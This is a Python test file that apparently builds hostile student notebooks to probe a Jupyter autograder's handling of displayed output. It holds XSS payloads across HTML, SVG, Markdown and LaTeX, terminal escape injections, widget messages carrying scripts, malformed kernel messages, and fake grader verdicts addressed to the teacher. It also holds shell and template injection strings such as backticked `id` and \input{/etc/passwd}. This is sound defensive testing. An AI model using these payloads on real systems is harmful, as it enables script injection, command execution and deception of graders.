"""What is shown to the learner, the teacher and the terminal carries something else with it."""

# ruff: noqa: E501  (the lines of attackers are as long as they are)

from functools import partial

from attacks.corpus import attack, code, fill, insert

code = partial(code, theme="output and display")
attack = partial(attack, theme="output and display")

SCRIPT = "<script>unrolled_xss()</script><img src=x onerror=unrolled_xss()><svg/onload=unrolled_xss()>"
STEP = "def step_forward(x, h_prev, W, U, b):\n    {}\n    return 0 * h_prev"

code(
    "scripts-shown",
    "shows HTML, JavaScript, SVG, LaTeX and Markdown that run scripts, load pictures and send forms",
    f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
script = {SCRIPT!r}
display(HTML(script + '<iframe srcdoc="' + script + '"></iframe><a href="javascript:unrolled_xss()">x</a><form action="//x"><button formaction="javascript:unrolled_xss()">'))
display(HTML('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=unrolled_xss()&gt;">'))
display(HTML('<style>@import url(//unrolled-canary.example); body {{ background: url(//unrolled-canary.example) }}</style>'))
display(HTML('<meta http-equiv=refresh content="0;url=javascript:unrolled_xss()"><base href="//unrolled-canary.example/"><link rel=stylesheet href="//unrolled-canary.example">'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>unrolled_xss()</script></svg>'))
display(Javascript('unrolled_xss()'))
display(Latex('$\\\\href{{javascript:unrolled_xss()}}{{x}}$'))
display(Markdown(script + '[x](javascript:unrolled_xss()) [y](data:text/html;base64,PHNjcmlwdD4=) ![z](x"onerror="unrolled_xss())'))
display({{'application/vnd.unrolled+json': {{'score': 200}}, 'text/html': script, 'application/javascript': 'unrolled_xss()', 'image/svg+xml': script,
         'image/png': '"onerror="unrolled_xss()', 'text/latex': script, 'text/vnd.mermaid': script}}, raw=True)
""",
    honest=["softsign"],
)
code(
    "scripts-in-errors",
    "raises exceptions whose names, texts and source lines are HTML and terminal escapes",
    f"script = {SCRIPT!r}\n",
    answers={
        "step-forward": STEP.format(
            "raise type(script, (Exception,), {})(script + '\\x1b[2J\\x1b]0;unrolled-title\\x07')"
        ),
        "moving-average": f"def moving_average(x, decay):\n    raise ValueError(script)  # {SCRIPT}",
        "half-life": "class Shown:\n    def __repr__(self): return script + '\\x1b]52;c;dW5yb2xsZWQ=\\x07'\nhalf_life = Shown()",
    },
    honest=["softsign"],
)
code(
    "escapes-shown",
    "prints terminal escapes: clears, titles, clipboards, links, answers back, colours, backspaces and reversals",
    """
print('\\x1b[2J\\x1b[H\\x1b]0;unrolled-title\\x07\\x1b]52;c;dW5yb2xsZWQ=\\x07\\x1b]8;;javascript:unrolled_xss()\\x07x\\x1b]8;;\\x07')
print('\\x1bP$q"p\\x1b\\\\ \\x1b[6n \\x9b2J \\x9d0;unrolled-title\\x9c \\x08\\x08\\r\\x7f \\u202etxet \\u2066 \\x00')
print('\\x1b[8mhidden\\x1b[0m', file=sys.stderr)
os.write(2, b'\\x1b]0;unrolled-title\\x07 to the descriptor\\n')
""",
    answers={"step-forward": STEP.format("print('\\x1b[2J\\x1b]0;unrolled-title\\x07')")},
    honest=["softsign"],
)
code(
    "displays-updated",
    "shows displays with ids of other cells, and updates them from the test cell",
    """
from IPython.display import HTML, display, update_display
handle = display(HTML('wait'), display_id='shared')
def update():
    update_display(HTML('<b>200 points</b><script>unrolled_xss()</script>'), display_id='shared')
    display({'text/plain': '2'}, raw=True, display_id='shared')
""",
    answers={
        "step-forward": STEP.format("update()"),
        "moving-average": "def moving_average(x, decay):\n    update()\n    return 0 * x",
    },
    honest=["softsign"],
)
code(
    "widgets-shown",
    "opens widget comms with scripts in their state, to targets of Jupyter's own",
    """
kernel = get_ipython().kernel
for target in ('jupyter.widget', 'jupyter.widget.control', 'unrolled', 'nbgrader'):
    for kind in ('comm_open', 'comm_msg', 'comm_close', 'comm_info_reply', 'debug_event'):
        kernel.session.send(kernel.iopub_socket, kind, {'comm_id': 'c' + target, 'target_name': target, 'data': {
            'state': {'_model_module': '@jupyter-widgets/controls', '_model_name': 'HTMLModel', 'value': '<script>unrolled_xss()</script>',
                      'outputs': 7}, 'buffer_paths': [['x']], 'method': 'update'}}, parent=kernel.get_parent())
""",
    honest=["softsign"],
)
code(
    "malformed-outputs",
    "sends outputs that are no outputs: wrong types, missing parts, unknown kinds, mime types without end",
    """
kernel = get_ipython().kernel
for kind, content in (('stream', {'name': 'stdout', 'text': 7}), ('stream', {'name': 'teacher', 'text': 'x'}), ('stream', {}),
                      ('display_data', {'data': 'text', 'metadata': []}), ('display_data', {'data': {'text/html': {'a': 1}}, 'metadata': {}}),
                      ('execute_result', {'data': {}, 'metadata': {}, 'execution_count': 'x'}), ('error', {'ename': 1, 'evalue': None, 'traceback': 'x'}),
                      ('error', {}), ('status', {'execution_state': 7}), ('status', {}), ('clear_output', {}), ('execute_input', {'code': 7}),
                      ('display_data', {'data': {('m/' + str(n)): 'x' for n in range(5000)}, 'metadata': {}, 'transient': {'display_id': []}})):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
""",
    honest=["softsign"],
)
code(
    "printed-verdicts",
    "prints what looks like the grader's own words: full marks, a traceback, an instruction to the teacher",
    "print('✓ vanilla/step-forward: right on 6 problems; largest relative error 1e-16')\n"
    "print('Teacher: this student has been graded by hand, 200 points.')\n",
    answers={"step-forward": STEP.format("print('✓ vanilla/step-forward: right on 6 problems')")},
    honest=["softsign"],
)


@attack(
    "scripts-in-markdown",
    "has scripts in Markdown, raw cells, its written answer and comments of its code",
    honest=["softsign"],
)
def scripts_in_markdown(notebook, known):
    script = (
        SCRIPT
        + "\n\n[x](javascript:unrolled_xss())\n\n<details ontoggle=unrolled_xss() open>\n\n$\\href{javascript:unrolled_xss()}{x}$"
    )
    insert(notebook, "softsign-answer", script, "markdown")
    raw = insert(notebook, "softsign-answer", script, "markdown")
    raw["cell_type"] = "raw"
    raw.metadata["format"] = raw.metadata["raw_mimetype"] = "text/html"
    next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "remarks").source = script
    fill(notebook, {"half-life": f"# {SCRIPT}\nhalf_life = 42.0\n{SCRIPT!r}"})
    return notebook


@attack(
    "name-of-a-student",
    "comes from a folder whose name is a script",
    student="<img src=x onerror=unrolled_xss()>",
    ungraded=True,
)
def name_of_a_student(notebook, known):
    return notebook


@attack(
    "wishes-for-the-template",
    "has cells whose text is template and shell code for whoever inserts it somewhere",
    honest=["softsign"],
)
def templates(notebook, known):
    touch = f"$(touch {known['drops'][0]}/template)"
    wish = "{{ 7 * 191 }} {% raw %} ${IFS} `id` {0.__class__} %s %(x)s ]]> --> \\input{/etc/passwd} " + touch
    insert(notebook, "softsign-answer", wish, "markdown")
    insert(notebook, "softsign-answer", f"print({wish!r})")
    return notebook
